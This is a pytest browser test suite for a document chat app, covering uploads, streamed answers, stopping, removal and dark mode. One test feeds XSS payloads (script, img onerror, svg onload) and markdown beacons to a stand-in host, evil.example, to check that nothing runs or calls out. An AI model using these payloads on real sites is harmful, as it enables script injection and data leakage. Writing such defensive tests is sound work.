"""The page in a real browser: what a person does, and what a hostile document must not."""

import time
from pathlib import Path

import pytest

from tests.browser.conftest import OpenPage, PageOn
from tests.ui.fake_appliance import FakeAppliance

pytestmark = pytest.mark.browser

LEAVE = "Annual leave. Every employee has 28 days of paid leave in a calendar year. " * 6
CANARY = "<img src=x onerror=alert('canary')><script>alert('canary')</script><svg onload=alert('canary')>"
BEACON = (
    "![b](https://evil.example/b.png?q=secret) <img src='https://evil.example/i.png'> [go](javascript:alert('canary'))"
)


def last_reply(opened: OpenPage) -> str:
    text: str = opened.page.locator("#conversation [data-testid=bot]").first.inner_text()
    return text.strip()


def wait_for_end(opened: OpenPage) -> None:
    opened.page.locator("#facts .timing").wait_for()
    opened.page.locator("#question .submit-button").wait_for()


def pictures(opened: OpenPage, folder: Path, name: str) -> None:
    for width in (1280, 400):
        opened.page.set_viewport_size({"width": width, "height": 800})
        picture = folder / f"{name}-{width}.png"
        opened.page.screenshot(path=str(picture))
        assert picture.stat().st_size > 5_000
        overflow = opened.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert overflow <= 0, f"{name} is {overflow} px too wide at {width} px"
    opened.page.set_viewport_size({"width": 1280, "height": 800})


def test_upload_ask_stream_sources(page_on: PageOn, fake: FakeAppliance, tmp_path: Path) -> None:
    opened = page_on(fake.as_appliance())
    opened.page.get_by_text("Begin with your documents").wait_for()
    pictures(opened, tmp_path, "empty")
    opened.page.get_by_role("button", name="Add documents").click()

    handbook, locked = tmp_path / "Employee handbook.txt", tmp_path / "locked.pdf"
    handbook.write_text(LEAVE)
    locked.write_text("%ENCRYPTED")
    opened.upload(handbook, locked)
    assert "remove the password" in opened.page.locator(".entries .failed").inner_text()
    opened.page.locator(".document .title", has_text="Employee handbook").wait_for()
    pictures(opened, tmp_path, "documents")

    fake.word_s = 0.06
    opened.page.get_by_role("tab", name="Chat").click()
    opened.page.get_by_text("1 document ready").wait_for()
    opened.ask("How many days of leave do I have?")
    opened.page.locator(".source .name", has_text="Employee handbook").wait_for()
    seen: set[int] = set()
    while not opened.page.locator("#facts .timing").is_visible():
        seen.add(len(last_reply(opened)))
        time.sleep(0.05)
    assert len(seen) >= 4  # the text was seen growing
    wait_for_end(opened)
    assert last_reply(opened).startswith("New employees have 28 days of paid leave")
    assert "1,612 of 1,690 tokens reused" in opened.page.locator("#facts .timing").inner_text()
    opened.page.locator(".source summary").first.click()
    assert opened.page.locator(".source .passage").first.is_visible()
    pictures(opened, tmp_path, "answer")

    assert opened.errors == []
    assert opened.foreign_requests() == []


def test_questions_about_an_attached_file(page_on: PageOn, fake: FakeAppliance, tmp_path: Path) -> None:
    fake.add("Employee handbook", LEAVE)
    lease, locked, hostile = (
        tmp_path / "Lease.txt",
        tmp_path / "locked.pdf",
        tmp_path / "<img src=x onerror=alert(1)>.txt",
    )
    lease.write_text("The rent is 18,600 a month.")
    locked.write_text("%ENCRYPTED")
    hostile.write_text("%ENCRYPTED")
    opened = page_on(fake.as_appliance())
    opened.attach(lease, locked, hostile)
    line = opened.page.locator("#attached")
    assert line.locator(".chip").all_inner_texts() == ["Lease.txt"]
    assert "remove the password" in line.locator(".failure").first.inner_text()
    assert line.locator("img").count() == 0
    opened.page.get_by_text("2 documents ready").wait_for()
    pictures(opened, tmp_path, "attached")

    opened.ask("What is the rent?")
    wait_for_end(opened)
    assert opened.page.locator(".source .name").first.inner_text() == "Lease"
    line.locator(".failure").first.wait_for(state="detached")  # told once
    opened.page.get_by_role("button", name="Detach").click()
    line.wait_for(state="hidden")
    opened.ask("And now?")
    opened.page.locator(".source .name").first.get_by_text("Employee handbook").wait_for()
    wait_for_end(opened)
    assert [len(documents) for documents in fake.asked_about] == [1, 0]

    opened.attach(lease)  # the same file again is the same document
    opened.page.get_by_role("tab", name="Documents").click()
    opened.page.locator(".document-row", has_text="Lease").get_by_role("button").click()
    opened.page.get_by_role("button", name="Remove it").click()
    opened.page.get_by_role("tab", name="Chat").click()
    line.wait_for(state="hidden")
    assert fake.calls == ["attach", "ask", "ask", "attach", "remove"]
    assert opened.alerts == opened.errors == opened.foreign_requests() == []


def test_stop_really_stops(page_on: PageOn, fake: FakeAppliance) -> None:
    fake.add("handbook", LEAVE)
    fake.reply = " ".join(f"word{number}" for number in range(400))
    fake.word_s = 0.03
    opened = page_on(fake.as_appliance())
    opened.ask("q")
    opened.page.get_by_text("word5").wait_for()
    opened.page.locator("#question .stop-button").click()
    opened.page.get_by_text("Stopped.").wait_for()
    given = fake.words_given
    assert given < 200
    time.sleep(0.3)
    assert fake.words_given == given
    opened.page.locator("#question .submit-button").wait_for()
    fake.reply = "again"
    opened.ask("q")
    opened.page.locator("#conversation [data-testid=bot]", has_text="again").wait_for()


def test_closing_the_page_stops_the_answer(page_on: PageOn, fake: FakeAppliance) -> None:
    fake.add("handbook", LEAVE)
    fake.reply = " ".join(["word"] * 2000)
    fake.word_s = 0.03
    opened = page_on(fake.as_appliance())
    opened.ask("q")
    opened.page.get_by_text("word word").wait_for()
    opened.page.close()
    deadline_s = time.monotonic() + 8
    given = -1
    while given != fake.words_given and time.monotonic() < deadline_s:
        given = fake.words_given
        time.sleep(0.5)
    assert given == fake.words_given


def test_uploading_while_answering(page_on: PageOn, fake: FakeAppliance, tmp_path: Path) -> None:
    fake.add("handbook", LEAVE)
    fake.word_s = 0.05
    opened = page_on(fake.as_appliance())
    opened.ask("q")
    opened.page.locator(".source").first.wait_for()
    second = tmp_path / "second.txt"
    second.write_text("more")
    opened.upload(second)
    opened.page.get_by_role("tab", name="Chat").click()
    wait_for_end(opened)
    assert last_reply(opened).startswith("New employees")
    assert fake.calls == ["ask", "ingest"]
    assert opened.errors == []


def test_removing_needs_a_second_look(page_on: PageOn, fake: FakeAppliance) -> None:
    fake.add("handbook", LEAVE)
    fake.add("lease", LEAVE)
    opened = page_on(fake.as_appliance())
    opened.page.get_by_role("tab", name="Documents").click()
    lease = opened.page.locator(".document-row", has_text="lease")
    lease.get_by_role("button").click()
    opened.page.get_by_text("Remove lease?").wait_for()
    opened.page.get_by_role("button", name="Keep it").click()
    opened.page.locator("#confirm").wait_for(state="hidden")
    assert fake.calls == []
    lease.get_by_role("button").click()
    opened.page.get_by_role("button", name="Remove it").click()
    lease.wait_for(state="hidden")
    assert fake.calls == ["remove"]
    assert [document.title for document in fake.documents()] == ["handbook"]


def test_a_question_before_any_document_is_answered_with_one_line(page_on: PageOn, fake: FakeAppliance) -> None:
    opened = page_on(fake.as_appliance())
    opened.ask("q")
    opened.page.get_by_text("There are no documents yet: add some under Documents").wait_for()
    opened.page.locator("#question .submit-button").wait_for()


def test_nothing_of_a_document_or_an_answer_runs_or_calls_home(
    page_on: PageOn, fake: FakeAppliance, tmp_path: Path
) -> None:
    fake.reply = f"{CANARY} {BEACON}\n\n```mermaid\ngraph TD\n```\n\n{CANARY}"
    fake.add(CANARY, f"{CANARY} {BEACON}", collection=CANARY)
    fake.add("second", LEAVE)
    opened = page_on(fake.as_appliance())
    hostile = tmp_path / "<img src=x onerror=alert('canary')>.txt"
    hostile.write_text(CANARY)
    opened.upload(hostile)
    opened.page.locator(".document-row").first.get_by_role("button").click()
    opened.page.locator("#confirm").wait_for()
    opened.page.get_by_role("tab", name="Chat").click()
    opened.ask(f"{CANARY} {BEACON}")
    wait_for_end(opened)
    opened.page.locator(".source summary").first.click()
    time.sleep(0.5)
    assert "onerror=alert" in last_reply(opened)  # shown, as text
    assert opened.page.locator("#tabs img, #tabs script, #tabs svg[onload], #tabs [onerror]").count() == 0
    assert opened.page.locator("#conversation a[href^=javascript]").count() == 0
    assert opened.alerts == []
    assert opened.errors == []
    assert opened.foreign_requests() == []


def test_dark(page_on: PageOn, fake: FakeAppliance, tmp_path: Path) -> None:
    fake.add("handbook", LEAVE)
    opened = page_on(fake.as_appliance(), color_scheme="dark")
    opened.ask("q")
    wait_for_end(opened)
    pictures(opened, tmp_path, "dark")
    background = opened.page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert max(int(part) for part in background.removeprefix("rgb(").removesuffix(")").split(",")) < 40
